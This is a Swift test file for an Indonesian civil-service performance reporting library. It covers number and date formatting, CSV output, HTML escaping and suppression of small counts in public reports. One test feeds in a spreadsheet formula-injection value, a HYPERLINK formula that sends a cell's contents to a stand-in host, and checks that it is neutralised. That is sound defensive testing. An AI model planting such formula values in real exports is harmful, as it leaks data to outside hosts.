import Foundation
import KinerjaAdapters
import KinerjaCore
@testable import KinerjaReports
import Testing

/// Numbers and dates as Indonesian documents write them, CSV that parses back to the same values, and the
/// public report's suppression of small groups.
@Suite struct ReportRenderingTests {
    @Test(arguments: [
        (1234.5, 1, DocumentLanguage.id, "1.234,5"), (1234.5, 1, .en, "1,234.5"), (0.125, 2, .id, "0,13"), (1_000_000, 0, .id, "1.000.000"),
        (-2.5, 1, .id, "-2,5"), (92.333, 2, .en, "92.33"), (100, 0, .en, "100"),
    ])
    func numbers(value: Double, digits: Int, language: DocumentLanguage, expected: String) {
        #expect(language.number(value, digits: digits) == expected)
    }

    /// The whole-integer way of writing a number gives the general way's text: signs, zero, rounding at the
    /// half, groups of three, for every digit count a document uses.
    @Test func numbersWrittenInIntegersAreTheSameText() {
        var values: [Double] = [0, -0.0, 0.004, -0.004, 0.005, -0.005, 0.125, 1, 9.995, 99.5, 999.95, 1000, 12_345.678, -12_345.678,
                                999_999.5, 1_000_000, 123_456_789.126, 4_500_000, 109, 120, 92.333, 59.999]
        var x = 0.37
        for _ in 0..<2000 { x = (x * 7919.13).truncatingRemainder(dividingBy: 250_000.0) - 100; values.append(x) }
        for language in DocumentLanguage.allCases {
            for digits in 0...3 {
                for v in values {
                    let scale = pow(10, Double(digits))
                    let units = (abs(v) * scale).rounded(.toNearestOrAwayFromZero)
                    #expect(language.integerUnits(UInt64(units), digits: digits, negative: v < 0)
                            == language.formatted(units / scale, digits: digits, negative: v < 0), "\(v) \(digits) \(language)")
                }
            }
        }
    }

    @Test func datesInWords() {
        // 2026-12-01 23:30 UTC is already 2 December in Makassar and Palu (WITA, UTC+8).
        let d = Date(timeIntervalSince1970: 1_796_167_800)
        let wita = TimeZone(identifier: "Asia/Makassar")!
        #expect(DocumentLanguage.id.date(d, timeZone: wita) == "2 Desember 2026")
        #expect(DocumentLanguage.en.date(d, timeZone: TimeZone(identifier: "UTC")!) == "1 December 2026")
        #expect(DocumentLanguage.id.date(d, timeZone: wita, withTime: true).hasSuffix("07.30 WITA"))
        // Pematangsiantar (WIB, UTC+7): an hour earlier, and named so.
        #expect(DocumentLanguage.id.date(d, timeZone: TimeZone(identifier: "Asia/Jakarta")!, withTime: true) == "2 Desember 2026, 06.30 WIB")
        #expect(DocumentLanguage.en.date(d, timeZone: TimeZone(identifier: "Asia/Jayapura")!, withTime: true) == "2 December 2026, 08:30 WIT")
    }

    /// Each city's documents carry its own local time: the four cities' profiles name their zones (three
    /// WITA, Pematangsiantar WIB), a report's generated time is printed in it, and a profile naming a zone
    /// outside Indonesia, or none that exists, is refused with the key and the zones allowed.
    @Test(arguments: [("makassar", "WITA"), ("banjarbaru", "WITA"), ("palu", "WITA"), ("pematangsiantar", "WIB"), ("nasional", "WIB")])
    func eachCitysDocumentsAreInItsOwnTime(adapter name: String, zone: String) throws {
        let profile = try #require(AdapterRegistry.named(name)).effectiveProfile()
        #expect(TenantProfile.indonesianTimeZones[profile.timeZone ?? ""] == zone, "\(name): \(profile.timeZone ?? "none")")
        let def = try #require(profile.reportDefinitions.first { $0.source == .opdRecap })
        let r = ReportRenderer(definition: def, language: .id, cityName: name, timeZone: profile.timeZoneOrDefault, templates: try ReportTemplates(),
                               periodName: "2026", generatedAt: Date(timeIntervalSince1970: 1_796_167_800))
        #expect(try r.html([]).contains(zone == "WIB" ? "2 Desember 2026, 06.30 WIB" : "2 Desember 2026, 07.30 WITA"))
    }

    /// A table's line under its title names the city, the period, the OPD when the report is of one, and when it
    /// was made; a city-wide table names no OPD (it printed "nil" there).
    @Test(arguments: [(String?.none, "Kota Makassar · Tahun 2026 · dibuat 2 Desember 2026, 07.30 WITA"),
                      ("DISDIK", "Kota Makassar · Tahun 2026 · DISDIK · dibuat 2 Desember 2026, 07.30 WITA")])
    func aTablesMetaLineNamesTheOPDOnlyWhenThereIsOne(scope: String?, expected: String) throws {
        let profile = try #require(AdapterRegistry.named("makassar")).effectiveProfile()
        let def = try #require(profile.reportDefinitions.first { $0.source == .opdRecap })
        let r = ReportRenderer(definition: def, language: .id, cityName: "Kota Makassar", timeZone: profile.timeZoneOrDefault,
                               templates: try ReportTemplates(), periodName: "Tahun 2026", scope: scope,
                               generatedAt: Date(timeIntervalSince1970: 1_796_167_800))
        let html = try r.html([])
        #expect(html.contains("<p class=\"meta\">\(expected)</p>"), "\(html)")
    }

    @Test(arguments: ["Europe/London", "Asia/Jakartaa", "WITA"])
    func aZoneOutsideIndonesiaIsRefused(zone: String) {
        do {
            _ = try ProfileLoader.load(overlay: "name: Kota Uji\ntimeZone: \(zone)\n", source: "uji.yaml")
            Issue.record("\(zone) was taken")
        } catch {
            #expect(error.description.contains("timeZone") && error.description.contains(zone) && error.description.contains("Asia/Makassar"),
                    "\(error.description)")
        }
    }

    /// Splits CSV (RFC 4180 with any one-character separator) into fields.
    static func parse(_ text: String, separator: Character) -> [[String]] {
        var rows: [[String]] = [], row: [String] = [], field = "", quoted = false
        var i = text.startIndex
        while i < text.endIndex {
            let c = text[i]
            if quoted {
                if c == "\"" {
                    let n = text.index(after: i)
                    if n < text.endIndex, text[n] == "\"" { field.append("\""); i = n } else { quoted = false }
                } else { field.append(c) }
            } else if c == "\"" { quoted = true }
            else if c == separator { row.append(field); field = "" }
            else if c == "\r\n" || c == "\n" { row.append(field); rows.append(row); row = []; field = "" }
            else { field.append(c) }
            i = text.index(after: i)
        }
        return rows
    }

    @Test func csvParsesBackToTheSameValues() throws {
        let profile = try NationalAdapter().effectiveProfile()
        let def = try #require(profile.reportDefinitions.first { $0.source == .evaluationDocument })
        #expect(def.csvSeparator == ";")
        let rows: [ReportRow] = [
            ["nip": .text("198503152010011001"), "nama": .text("Andi; \"Ucok\", S.E."), "capaian": .number(92.3456), "predikat": .text("Baik"),
             "skor360": .none, "status": .text("final"), "jabatan": .text("Analis\nKebijakan")],
            ["nip": .text("199001012015032002"), "nama": .text("Siti\r\nAminah"), "capaian": .number(100), "predikat": .none, "status": .text("proposed")],
        ]
        for language in DocumentLanguage.allCases {
            let r = ReportRenderer(definition: def, language: language, cityName: "Kota Uji", timeZone: .current, templates: try ReportTemplates(), periodName: "2026")
            let parsed = Self.parse(r.csv(rows), separator: ";")
            #expect(parsed.count == 3)
            #expect(parsed[0] == def.fields.map { language == .id ? $0.id : $0.en })
            for (line, row) in zip(parsed.dropFirst(), rows) {
                for (i, field) in def.fields.enumerated() { #expect(line[i] == r.text(row[field.key] ?? .none), "\(field.key)") }
            }
            #expect(parsed[1][def.fields.firstIndex { $0.key == "nama" }!] == "Andi; \"Ucok\", S.E.")
            #expect(parsed[1][def.fields.firstIndex { $0.key == "capaian" }!] == (language == .id ? "92,35" : "92.35"))
        }
    }

    /// A name from a SIASN file or an integrator that a spreadsheet would run as a formula goes out as text; a
    /// negative figure stays a number.
    @Test func aReportCellIsNeverAFormula() throws {
        let profile = try NationalAdapter().effectiveProfile()
        let def = try #require(profile.reportDefinitions.first { $0.source == .evaluationDocument })
        let rows: [ReportRow] = [["nip": .text("198503152010011001"), "nama": .text("=HYPERLINK(\"http://x/?\"&A2;\"Klik\")"),
                                  "jabatan": .text("@SUM(A1)"), "capaian": .number(-3.5)]]
        for language in DocumentLanguage.allCases {
            let r = ReportRenderer(definition: def, language: language, cityName: "Kota Uji", timeZone: .current, templates: try ReportTemplates(), periodName: "2026")
            let line = Self.parse(r.csv(rows), separator: ";")[1]
            func cell(_ key: String) -> String { line[def.fields.firstIndex { $0.key == key }!] }
            #expect(cell("nama") == "'=HYPERLINK(\"http://x/?\"&A2;\"Klik\")")
            #expect(cell("jabatan") == "'@SUM(A1)")
            #expect(cell("capaian") == r.text(.number(-3.5)))
            #expect(cell("capaian").hasPrefix("-3"))
        }
    }

    @Test(arguments: [
        // counts per predikat -> what is published (nil: the whole OPD hidden)
        (["Baik": 3, "Butuh Perbaikan": 1], [String: PublicReport.Cell]?.none),                    // 4 people: hidden
        (["Baik": 10, "Butuh Perbaikan": 6], ["Sangat Baik": .count(0), "Baik": .count(10), "Butuh Perbaikan": .count(6),
                                              "Kurang/Misconduct": .count(0), "Sangat Kurang": .count(0)]),
        // one small cell: it and the next smallest hidden, else the total gives it away
        (["Baik": 10, "Butuh Perbaikan": 6, "Sangat Kurang": 2], ["Sangat Baik": .count(0), "Baik": .count(10), "Butuh Perbaikan": .suppressed,
                                                                  "Kurang/Misconduct": .count(0), "Sangat Kurang": .suppressed]),
        // two small cells: both hidden, nothing more
        (["Baik": 10, "Kurang/Misconduct": 3, "Sangat Kurang": 1], ["Sangat Baik": .count(0), "Baik": .count(10), "Butuh Perbaikan": .count(0),
                                                                     "Kurang/Misconduct": .suppressed, "Sangat Kurang": .suppressed]),
    ])
    func smallGroupsAreHidden(counts: [String: Int], expected: [String: PublicReport.Cell]?) {
        let line = PublicReport.line(code: "X", name: "Dinas X", counts: counts, goalCapaian: 90, contributors: 4, previousShareGood: 50)
        #expect(line?.predikat == expected)
        // Fewer than five contributors: no goal capaian.
        #expect(line?.goalCapaian == nil)
        if let line, line.predikat["Sangat Baik"] == .suppressed || line.predikat["Baik"] == .suppressed {
            #expect(line.shareGood == nil && line.changeGood == nil, "the share would give a hidden count away")
        }
    }

    /// The public report's JSON gives its percentages to two decimals, half away from zero (a city website shows
    /// them as they come): 8 of 15 is 53.33, not 53.333333333333336. Nothing else in the line changes.
    @Test func thePublicReportsPercentagesHaveTwoDecimals() throws {
        let opd = PublicReport.OPD(code: "X", name: "Dinas X", evaluated: 15, predikat: ["Baik": .count(8)],
                                   goalCapaian: 78.0169974047619, shareGood: 8.0 / 15 * 100, changeGood: 0.125)
        let hidden = PublicReport.OPD(code: "Y", name: "Dinas Y", evaluated: 6, predikat: ["Baik": .suppressed],
                                      goalCapaian: nil, shareGood: nil, changeGood: -2.0 / 3)
        // Down by less than half a hundredth: 0 (JSON would write -0.0 as -0).
        let steady = PublicReport.OPD(code: "Z", name: "Dinas Z", evaluated: 300, predikat: ["Baik": .count(150)],
                                      goalCapaian: nil, shareGood: 50, changeGood: -0.004)
        let report = PublicReport(city: "Kota Uji", year: 2026, publishedAt: Date(timeIntervalSince1970: 0), evaluated: 321,
                                  predikat: ["Baik": 10], opds: [opd, hidden, steady], hiddenOPDs: 0, previousYear: 2025)
        let json = try #require(JSONSerialization.jsonObject(with: try PublicReportPage.json(report)) as? [String: Any])
        let opds = try #require(json["opds"] as? [[String: Any]])
        #expect(opds[0]["goalCapaian"] as? Double == 78.02)
        #expect(opds[0]["shareGood"] as? Double == 53.33)
        #expect(opds[0]["changeGood"] as? Double == 0.13)
        #expect(opds[0]["evaluated"] as? Int == 15)
        #expect(opds[1]["goalCapaian"] == nil && opds[1]["shareGood"] == nil)
        #expect(opds[1]["changeGood"] as? Double == -0.67)
        #expect(opds[2]["changeGood"] as? Double == 0)
        let text = String(decoding: try PublicReportPage.json(report), as: UTF8.self)
        #expect(text.contains("\"shareGood\":53.33") && !text.contains("53.333"), "\(text)")
        #expect(text.contains("\"changeGood\":0,") && !text.contains("-0,"), "\(text)")
    }

    /// The city's counts are published with the OPDs': a column with a single hidden count (or only the OPDs
    /// hidden whole) would tell it by subtraction, so another is hidden in that column, and a row left hiding one
    /// hides another. Found in review: with one OPD hidden whole, the city's counts less the others' told its own.
    @Test(arguments: [
        // rows (counts) and whether OPDs are hidden whole -> what each row hides
        ([("X", ["Sangat Baik": 10, "Baik": 7]), ("Y", ["Sangat Baik": 6, "Baik": 9])], false,
         ["X": Set<String>(), "Y": []]),                                                               // nothing small: nothing hidden
        // X hides its 2 and its next smallest (Baik 7); each column then has one unknown, so Y hides its cell in
        // both (its Butuh Perbaikan, though 0: the only one left in the column).
        ([("X", ["Sangat Baik": 10, "Baik": 7, "Butuh Perbaikan": 2]), ("Y", ["Sangat Baik": 9, "Baik": 8])], false,
         ["X": ["Baik", "Butuh Perbaikan"], "Y": ["Baik", "Butuh Perbaikan"]]),
        // The same with the small cells in different columns: each column already has two unknowns.
        ([("X", ["Sangat Baik": 10, "Baik": 2, "Butuh Perbaikan": 3]), ("Y", ["Sangat Baik": 9, "Baik": 1, "Butuh Perbaikan": 4])], false,
         ["X": ["Baik", "Butuh Perbaikan"], "Y": ["Baik", "Butuh Perbaikan"]]),
        // One OPD shown and others hidden whole: the city's counts less its own would be theirs, so it hides all.
        ([("X", ["Sangat Baik": 10, "Baik": 7])], true, ["X": Set(PublicReport.predikat)]),
        // Two shown, others hidden whole: in every column the smaller count (or the first row's, where both are
        // 0) is hidden besides them; Y, left hiding one, hides its next smallest too.
        ([("X", ["Sangat Baik": 10, "Baik": 7]), ("Y", ["Sangat Baik": 6, "Baik": 9])], true,
         ["X": ["Baik", "Butuh Perbaikan", "Kurang/Misconduct", "Sangat Kurang"], "Y": ["Sangat Baik", "Baik"]]),
    ] as [([(String, [String: Int])], Bool, [String: Set<String>])])
    func noHiddenCountIsToldByTheCitysCounts(rows: [(String, [String: Int])], restHidden: Bool, expected: [String: Set<String>]) {
        let hidden = PublicReport.hiddenCells(rows.map { (code: $0.0, counts: $0.1) }, order: PublicReport.predikat, restHidden: restHidden)
        #expect(hidden == expected)
    }

    /// An OPD recap's curve status in Indonesian (as the dashboard page says it), in every format; the codes in English.
    @Test(arguments: [("passes", "sesuai kurva"), ("BROKEN", "MELANGGAR KURVA"), ("not evaluated", "belum dinilai"),
                      ("no org predikat", "predikat organisasi belum ditetapkan"), ("final (override)", "final (dengan pengecualian)"),
                      ("no curve (numeric regime)", "tanpa kurva (rezim angka)"), ("final", "final")])
    func theCurveStatusIsWrittenInTheReportsLanguage(code: String, indonesian: String) throws {
        let def = try #require(try AdapterRegistry.named("makassar")!.effectiveProfile().reportDefinitions.first { $0.source == .opdRecap })
        let row: ReportRow = ["opd": .text("DINKES"), "kurva": .text(code)]
        for (language, expected) in [(DocumentLanguage.id, indonesian), (.en, code)] {
            let r = ReportRenderer(definition: def, language: language, cityName: "Kota Uji", timeZone: .current, templates: try ReportTemplates(), periodName: "2026")
            #expect(r.localised(row)["kurva"] == .text(expected))
            #expect(r.localised(row)["opd"] == .text("DINKES"))
        }
    }

    @Test func everyCitysReportsResolveAndTheirTemplatesRender() throws {
        for adapter in AdapterRegistry.all {
            let profile = try adapter.effectiveProfile()
            let templates = try ReportTemplates(city: adapter.templates)
            #expect(profile.reportDefinitions.count == profile.reports.formats.count, "\(adapter.name): a report does not resolve")
            for d in profile.reportDefinitions {
                #expect(templates.names.contains(d.template), "\(adapter.name): \(d.id) names template '\(d.template)'")
                let r = ReportRenderer(definition: d, language: .id, cityName: adapter.displayName, timeZone: try adapter.effectiveProfile().timeZoneOrDefault, templates: templates, periodName: "Tahun 2026")
                let html = d.source.perEmployee && d.source != .ranking ? try r.pageParts().head + (try r.document(Self.document)) + (try r.pageParts().tail)
                    : try r.html([[:]])
                #expect(html.contains("<html lang=\"id\">") && html.contains("</html>"), "\(adapter.name) \(d.id)")
            }
        }
    }

    /// Labels written into the templates once (a city's document set) give the very same HTML, in both
    /// languages, for every city's per-employee reports; a value with HTML in it is still escaped.
    @Test func inlinedLabelsRenderTheSameDocuments() throws {
        var doc = Self.document
        doc.employee.name = "Andi <b>& 'Co'</b>"
        for adapter in AdapterRegistry.all {
            let templates = try ReportTemplates(city: adapter.templates)
            for d in try adapter.effectiveProfile().reportDefinitions where d.source.perEmployee && d.source != .ranking {
                for language in [DocumentLanguage.id, .en] {
                    let r = ReportRenderer(definition: d, language: language, cityName: adapter.displayName, timeZone: try adapter.effectiveProfile().timeZoneOrDefault, templates: templates, periodName: "Tahun 2026")
                    let plain = try r.document(doc)
                    #expect(try r.inliningLabels().document(doc) == plain, "\(adapter.name) \(d.id) \(language)")
                    #expect(plain.contains("Andi &lt;b&gt;&amp; &#39;Co&#39;&lt;/b&gt;") || !plain.contains("Andi"), "\(adapter.name) \(d.id)")
                }
            }
        }
    }

    static let document = EvaluationDocument(
        year: 2026, period: "Y", employee: .init(nip: "198503152010011001", name: "Andi", jabatan: "Analis", golongan: "III/a", unit: "Seksi A"),
        opd: "DINKES", opdName: "Dinas Kesehatan", pejabatPenilai: nil, atasanPejabatPenilai: nil,
        plans: [.init(kind: "utama", text: "Layanan", capaian: 95, indicators: [.init(text: "Jumlah", target: "10 berkas", realisasi: 9.5, unit: "berkas", capaian: 95)])],
        feedback: [], capaian: 95, ratingHasil: "Sesuai Ekspektasi", ratingPerilaku: "Sesuai Ekspektasi",
        behaviour: .init(score: 3.5, atasan: 3.5, peer: nil, peers: nil, bawahan: nil, bawahans: nil), predikat: "Baik", status: "final",
        followUps: [.init(kind: "certificate", rule: "Sertifikat", due: nil, status: "open", id: 7, detail: [:])], sanctions: [])
}
